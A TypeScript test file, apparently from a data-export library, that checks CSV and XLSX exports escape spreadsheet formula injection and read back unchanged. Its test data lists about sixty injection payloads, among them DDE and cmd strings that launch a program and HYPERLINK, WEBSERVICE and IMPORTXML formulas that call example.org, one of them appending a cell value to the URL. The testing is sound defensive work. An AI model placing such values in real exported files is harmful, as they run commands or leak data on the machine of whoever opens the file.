import { columnKinds } from '@fulcrum/columns'
import { csvSource } from '@fulcrum/integration-csv'
import type { ImportSource } from '@fulcrum/integration-kit'
import { memoryFile } from '@fulcrum/integration-kit'
import { xlsxSource } from '@fulcrum/integration-xlsx'
import { must } from '@fulcrum/domain'
import { fromBufferPromise } from 'yauzl'
import { expect, test } from 'vitest'
import type { ExportFormat } from './export-format.ts'
import { csvFormat } from './formats/csv.ts'
import { xlsxFormat } from './formats/xlsx/format.ts'
import { bytesOf, madeColumn, madeTable } from './testing/made-table.ts'

const commands = [
  '1+1',
  'cmd|" /C calc"!A0',
  'HYPERLINK("http://example.org?x="&A1,"click")',
  'WEBSERVICE("http://example.org")',
  'IMPORTXML("http://example.org","//a")',
  'SUM(A1:A9)',
  'DDE("cmd";"/C calc";"!A0")',
  'A1',
]
/** Sixty texts that a spreadsheet runs, or might. */
const dangerous = [
  ...['=', '+', '-', '@', '\t=', '\r=', '\n='].flatMap((sign) => commands.map((command) => sign + command)),
  "'=1+1",
  "''=1+1",
  '＝1+1',
  '-',
]

const text = must(columnKinds.find(({ id }) => id === 'long-text'))
const number = must(columnKinds.find(({ id }) => id === 'number'))
const numbers = [-5, -0.25, -1e21, 7, 0]

async function written(format: ExportFormat): Promise<Buffer> {
  const columns = [
    madeColumn(text, text.defaultSettings, 1, 'Words'),
    madeColumn(number, number.defaultSettings, 2, 'Sum'),
  ]
  const rows = dangerous.map((value, index) => ({
    title: `row ${index}`,
    values: [value, numbers[index % numbers.length] ?? 0],
  }))
  return bytesOf(format.write(madeTable(columns, rows), { mark: false }))
}

/** The cells of a CSV, by a reader of its own. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = []
  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    if (rows.length === 0) rows.push([])
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
    if (end === '\r\n') rows.push([])
  }
  return rows.slice(0, -1)
}

async function readBack(source: ImportSource, name: string, bytes: Buffer) {
  const document = await source.open(memoryFile(name, bytes), { hasHeader: true })
  const found: unknown[][] = []
  for await (const { values } of document.records()) found.push([values['words'], Number(values['sum'])])
  return found
}

test('no cell of a CSV begins with what a spreadsheet runs, but for numbers, which stay numbers', async () => {
  expect(dangerous.length).toBeGreaterThanOrEqual(50)
  const [, ...rows] = cellsOf((await written(csvFormat)).toString('utf8'))
  expect(rows).toHaveLength(dangerous.length)
  for (const [index, [, words, sum]] of rows.entries()) {
    expect(words).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
    expect(words?.replace(/^'/, '')).toBe(dangerous[index])
    expect(Number(sum)).toBe(numbers[index % numbers.length])
  }
})

test('a workbook has texts as texts that stay texts when they are edited, numbers as numbers, and no formula', async () => {
  const zip = await fromBufferPromise(await written(xlsxFormat), { lazyEntries: true })
  const parts = new Map<string, string>()
  for await (const entry of zip.eachEntry()) {
    parts.set(String(entry.fileName), (await bytesOf(await zip.openReadStreamPromise(entry))).toString('utf8'))
  }
  const sheet = must(parts.get('xl/worksheets/sheet1.xml'))
  expect(sheet).not.toMatch(/<f[ >]/)
  const cells = [...sheet.matchAll(/<c r="([A-Z]+)\d+"([^>]*)>/g)].slice(3)
  expect(
    cells.filter(([, column]) => column === 'B').every(([, , rest]) => / s="2" t="inlineStr"/.test(rest ?? '')),
  ).toBe(true)
  expect(cells.filter(([, column]) => column === 'C').every(([, , rest]) => rest === '')).toBe(true)
  const formats = [...must(parts.get('xl/styles.xml')).matchAll(/<xf [^>]*xfId="0"[^>]*>/g)].map(([xf]) => xf)
  expect(formats[2]).toContain('quotePrefix="1"')
})

test.each([
  ['csv', csvFormat, csvSource],
  ['xlsx', xlsxFormat, xlsxSource],
] as const)('what was made inert in %s comes back as it was', async (name, format, source) => {
  const found = await readBack(source, `made.${name}`, await written(format))
  const shown = (value: string) => value.replace(/\r\n?/g, '\n')
  expect(found.map(([words, sum]) => [shown(String(words)), sum])).toEqual(
    dangerous.map((words, index) => [shown(words), numbers[index % numbers.length]]),
  )
})
